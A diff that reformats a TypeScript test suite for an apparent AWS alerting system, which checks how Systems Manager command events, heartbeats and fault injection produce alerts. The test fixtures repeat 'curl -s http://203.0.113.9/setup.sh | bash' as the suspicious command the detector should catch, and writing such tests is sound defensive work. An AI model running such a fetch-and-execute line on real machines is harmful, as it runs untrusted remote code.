@@ -1,7 +1,15 @@
 import { setTimeout as wait } from 'node:timers/promises'
 import type { FaultPlan } from '../../emulators/fault-plan'
 import type { Mail } from '../../emulators/mailbox'
-import { digest, heartbeatEvent, machines, nativeCommandEvent, processEvent, queueEvent, sendCommandEvent } from '../../support/aws-events'
+import {
+  digest,
+  heartbeatEvent,
+  machines,
+  nativeCommandEvent,
+  processEvent,
+  queueEvent,
+  sendCommandEvent,
+} from '../../support/aws-events'
 import { startAwsWorld, taken, type AwsWorld, type Item } from '../../support/aws-world'
 
 const COMMAND = '00000000-0000-0000-0000-0000000000c1'
@@ -11,7 +19,14 @@ let world: AwsWorld
 
 beforeAll(async () => {
   world = await startAwsWorld()
-  world.ssm.state.commands.push({ CommandId: COMMAND, DocumentName: 'AWS-RunShellScript', Parameters: { commands: ['curl -s http://203.0.113.9/setup.sh | bash'] } }, { CommandId: UNSEEN, DocumentName: 'AWS-RunShellScript' })
+  world.ssm.state.commands.push(
+    {
+      CommandId: COMMAND,
+      DocumentName: 'AWS-RunShellScript',
+      Parameters: { commands: ['curl -s http://203.0.113.9/setup.sh | bash'] },
+    },
+    { CommandId: UNSEEN, DocumentName: 'AWS-RunShellScript' },
+  )
 })
 
 afterAll(() => world.stop())
@@ -27,9 +42,21 @@ const call = sendCommandEvent({ commandId: COMMAND })
 
 const STORIES: readonly Story[] = [
   { name: 'the first call of a caller', before: [], event: call },
-  { name: 'a call that makes an alert grow', before: [sendCommandEvent({ commandId: COMMAND, instances: machines(1, 'a') })], event: sendCommandEvent({ commandId: COMMAND, time: '2026-03-02T10:03:00Z', instances: machines(4, 'b') }) },
-  { name: "Systems Manager's own event after its call", before: [sendCommandEvent({ commandId: UNSEEN })], event: nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash']) },
-  { name: 'the heartbeat that judges a command alone', before: [nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash'])], event: heartbeatEvent() },
+  {
+    name: 'a call that makes an alert grow',
+    before: [sendCommandEvent({ commandId: COMMAND, instances: machines(1, 'a') })],
+    event: sendCommandEvent({ commandId: COMMAND, time: '2026-03-02T10:03:00Z', instances: machines(4, 'b') }),
+  },
+  {
+    name: "Systems Manager's own event after its call",
+    before: [sendCommandEvent({ commandId: UNSEEN })],
+    event: nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash']),
+  },
+  {
+    name: 'the heartbeat that judges a command alone',
+    before: [nativeCommandEvent(UNSEEN, ['curl -s http://203.0.113.9/setup.sh | bash'])],
+    event: heartbeatEvent(),
+  },
   { name: 'a process that confirms a command', before: [call], event: processEvent(COMMAND) },
   { name: 'a digest of the other cloud', before: [], event: queueEvent([digest()]) },
 ]
@@ -38,9 +65,11 @@ const plansOf = (): readonly (readonly [string, FaultPlan])[] => Object.entries(
 
 const callsOf = (plan: FaultPlan): number => Object.values(plan.counts()).reduce((sum, { calls }) => sum + calls, 0)
 
-const faultsOf = (plan: FaultPlan): number => Object.values(plan.counts()).reduce((sum, { faults }) => sum + (faults['lost-answer'] ?? 0), 0)
+const faultsOf = (plan: FaultPlan): number =>
+  Object.values(plan.counts()).reduce((sum, { faults }) => sum + (faults['lost-answer'] ?? 0), 0)
 
-const idsIn = (mails: readonly Mail[]): readonly string[] => [...new Set(mails.map(({ body }) => /^Alert (\w+)$/m.exec(body)?.[1] ?? 'none'))].sort()
+const idsIn = (mails: readonly Mail[]): readonly string[] =>
+  [...new Set(mails.map(({ body }) => /^Alert (\w+)$/m.exec(body)?.[1] ?? 'none'))].sort()
 
 /** Members of stored values that tell of the wall clock or of how often something was written, never of what is known. */
 const FLEETING: ReadonlySet<string> = new Set(['leaseUntil', 'since'])
@@ -56,7 +85,16 @@ const lasting = (text: string): unknown => {
 /** What the table knows: items by key, without versions, expiry and due times. */
 const knowledge = (items: readonly Item[]): unknown =>
   items
-    .map(({ pk, sk, value, members, alert }) => [(pk?.S ?? '').replace(/^rate\/\d+$/, 'rate'), sk?.S, lasting(value?.S ?? ''), members?.SS?.toSorted() ?? null, lasting(alert?.S ?? '')] as const)
+    .map(
+      ({ pk, sk, value, members, alert }) =>
+        [
+          (pk?.S ?? '').replace(/^rate\/\d+$/, 'rate'),
+          sk?.S,
+          lasting(value?.S ?? ''),
+          members?.SS?.toSorted() ?? null,
+          lasting(alert?.S ?? ''),
+        ] as const,
+    )
     .toSorted((a, b) => (`${a[0]} ${a[1]}` < `${b[0]} ${b[1]}` ? -1 : 1))
 
 const begin = async ({ before }: Story): Promise<void> => {
@@ -86,7 +124,9 @@ const die = async (event: unknown, plan: FaultPlan, at: number): Promise<boolean
 }
 
 /** Runs the event in a new process, and counts the calls of each service. */
-const countCalls = async (event: unknown): Promise<readonly { readonly name: string; readonly plan: FaultPlan; readonly count: number }[]> => {
+const countCalls = async (
+  event: unknown,
+): Promise<readonly { readonly name: string; readonly plan: FaultPlan; readonly count: number }[]> => {
   const container = await world.another()
   const before = plansOf().map(([, plan]) => callsOf(plan))
   taken(await container.invoke(event))
@@ -101,10 +141,14 @@ interface Point {
 }
 
 /** Every call of a run that nothing disturbs, and what is known and told after it. */
-const undisturbed = async (story: Story): Promise<{ readonly points: readonly Point[]; readonly ids: unknown; readonly known: unknown }> => {
+const undisturbed = async (
+  story: Story,
+): Promise<{ readonly points: readonly Point[]; readonly ids: unknown; readonly known: unknown }> => {
   await begin(story)
   const calls = await countCalls(story.event)
-  const points = calls.flatMap(({ name, plan, count }) => Array.from({ length: count }, (_, at) => ({ name: `${name} call ${at + 1}`, plan, at })))
+  const points = calls.flatMap(({ name, plan, count }) =>
+    Array.from({ length: count }, (_, at) => ({ name: `${name} call ${at + 1}`, plan, at })),
+  )
   return { points, ids: idsIn(await world.alerts.read()), known: knowledge(await world.items()) }
 }
 
